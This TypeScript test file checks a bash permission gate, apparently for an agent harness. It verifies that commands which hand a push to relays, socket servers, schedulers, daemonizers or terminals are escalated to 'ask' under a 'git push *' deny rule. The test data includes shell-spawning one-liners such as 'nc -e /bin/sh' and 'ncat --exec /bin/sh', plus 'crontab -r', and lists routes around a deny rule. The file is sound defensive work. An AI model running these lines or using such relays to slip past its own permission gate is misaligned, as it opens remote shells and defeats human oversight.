/**
 * Programs that hand a command to something the call does not run, or run what a peer sends
 * (parse-detach.ts): relays (`socat EXEC:`, `ncat --sh-exec`, `nc -e`), servers (`tcpserver`,
 * `systemd-socket-activate`), schedulers (`at`, `batch`,
 * `crontab`), `daemonize`, terminal emulators and `emacsclient`. Real bash pushes through each
 * relay installed here (a listener and its client on loopback), and through a server that runs
 * its command for each connection (`systemd-socket-activate`, the sixth review); the gate allowed each under a
 * `git push *` deny, and now asks. A scheduler's command runs later, under its daemon: what the
 * gate says is the whole test there.
 */
import { afterAll, describe, expect, it } from "vitest"
import { decide, rule } from "../../../lib/bash-gate.js"
import { cleanup, installed, pushes } from "../../../lib/bash-push-marker.js"

afterAll(cleanup)
const RULES = [rule("*", "allow"), rule("git push *", "deny")]
const effect = (command: string) => decide(command, RULES).effect

/** A loopback port of its own for each relay line, so runs never meet. */
const port = (offset: number) => 47_100 + (process.pid % 500) * 10 + offset

/** [program that must be installed for the real run, line]: each asks now. */
const RELAYS: ReadonlyArray<readonly [string, string]> = [
  ["socat", "socat - EXEC:'git push o' < /dev/null"],
  ["ncat", `ncat -l 127.0.0.1 ${port(1)} --sh-exec 'git push o' & sleep 0.5; ncat 127.0.0.1 ${port(1)} < /dev/null; wait`],
  ["ncat", `ncat -l 127.0.0.1 ${port(2)} --sh 'git push o' & sleep 0.5; ncat 127.0.0.1 ${port(2)} < /dev/null; wait`],
  ["busybox", `busybox nc -l -p ${port(3)} -e git push o & sleep 0.5; busybox nc 127.0.0.1 ${port(3)} < /dev/null; wait`],
  // The sixth review: a server that runs its command for each connection.
  ["systemd-socket-activate", `systemd-socket-activate -l 127.0.0.1:${port(4)} --inetd git push o & sleep 0.5; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port(4)}; cat <&3' ; kill %1; wait`],
]

describe("relays run the push a peer's connection starts (real bash), and ask", () => {
  for (const [program, line] of RELAYS) {
    const runs = installed(program)
    it.runIf(runs)(`pushes: ${line}${runs ? "" : ` (skipped: ${program} is not installed here)`}`, () => expect(pushes(line)).toBe("git push o"))
    it(`asks ${line}`, () => expect(effect(line)).toBe("ask"))
  }
})

describe("what else hands a command away", () => {
  it("asks for schedulers, daemonizers, terminals and an Emacs server", () => {
    const lines = [
      "echo 'git push o' | at now",
      "at -f job.sh now + 1 minute",
      "echo 'git push o' | batch",
      "echo '* * * * * git push o' | crontab -",
      "crontab jobs.txt",
      "crontab -r",
      "daemonize /usr/bin/git push o",
      "xterm -e git push o",
      "gnome-terminal -- git push o",
      "x-terminal-emulator -e 'git push o'",
      "emacsclient -e '(shell-command \"git push o\")'",
      "nc -e /bin/sh h 1",
      "nc -lvpe 1 /bin/sh",
      "nc.traditional -c 'git push o' h 1",
      "ncat --exec /bin/sh h 1",
      "ncat --lua-exec x.lua h 1",
      "systemd-socket-activate -l 8080 git push o",
      "tcpserver 0 8080 git push o",
      "tcpclient h 80 git push o",
      "tcpsvd -c 1 0 8080 git push o",
      "busybox udpsvd 0 8080 git push o",
      "s6-tcpserver 0 8080 git push o",
      "unixserver s git push o",
      "inetd ./inetd.conf",
      "websocketd --port=8080 git push o",
      "ttyd git push o",
    ]
    for (const line of lines) expect([line, effect(line)]).toEqual([line, "ask"])
  })

  it("still allows what only connects, lists or reads", () => {
    for (const line of ["nc -z h 80", "nc h 80 < req.txt", "ncat -l 8080", "ncat --ssl h 443", "crontab -l", "crontab -u me -l", "atq"])
      expect([line, effect(line)]).toEqual([line, "allow"])
  })
})
